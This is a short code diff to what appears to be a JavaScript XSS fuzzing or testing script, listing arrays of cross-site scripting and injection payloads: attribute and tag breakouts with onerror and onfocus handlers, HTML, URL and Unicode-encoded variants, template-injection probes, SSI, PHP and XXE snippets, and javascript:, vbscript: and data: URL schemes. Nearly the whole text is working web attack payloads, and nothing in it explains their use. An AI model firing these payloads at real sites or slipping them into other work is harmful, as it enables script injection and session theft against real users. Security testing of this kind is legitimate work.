@@ -14,7 +14,7 @@ const CLOSES = [
   `"><img src=x onerror=${DO}>`, `'><img src=x onerror=${DO}>`, `" autofocus onfocus=${DO} x="`, `' autofocus onfocus=${DO} x='`, `\` onfocus=${DO} autofocus`, `</title><img src=x onerror=${DO}>`, `</style><img src=x onerror=${DO}>`,
   `--><img src=x onerror=${DO}>`, `--!><img src=x onerror=${DO}>`, `]]><img src=x onerror=${DO}>`, `</textarea></select></option></xmp></noscript><img src=x onerror=${DO}>`, `";${DO};//`, `'-${DO}-'`, `\\";${DO};//`, `\\u003cimg src=x onerror=${DO}\\u003e`,
   `&lt;img src=x onerror=${DO}&gt;`, `&#60;img src=x onerror=${DO}&#62;`, `%3Cimg%20src%3Dx%20onerror%3D${DO}%3E`, `+ADw-img src=x onerror=${DO}+AD4-`, `\u2028${DO}\u2029`, `\u0000<\u0000img src=x onerror=${DO}>`, `＜img src=x onerror=${DO}＞`,
-  `{{ 7 * 7 }}{% include "page.html" %}{# x`, `{{ ${DO} }}\${${DO}}<%= ${DO} %>#{${DO}}`, `\ud83d<img src=x onerror=${DO}>`, `\u202e<img src=x onerror=${DO}>\u202c`, `<!--#exec cmd="x"--><?php x ?><?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "z">]>&y;`,
+  `{{ 7 * 7 }}{% include "page.html" %}{# x`, `{{ ${DO} }}\${${DO}}<%= ${DO} %>#{${DO}}`, `\u200b<img src=x onerror=${DO}>`, `\u202e<img src=x onerror=${DO}>\u202c`, `<!--#exec cmd="x"--><?php x ?><?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "z">]>&y;`,
 ];
 const LEADS = [
   `javascript:${DO}`, `JaVaScRiPt:${DO}`, `java\nscript:${DO}`, `\u0001javascript:${DO}`, ` javascript:${DO}`, `data:text/html,<script>${DO}</script>`, `vbscript:${DO}`, `//example.org/x`, `https://example.org/"onclick="${DO}`, `https://example.org/'><script>${DO}</script>`,
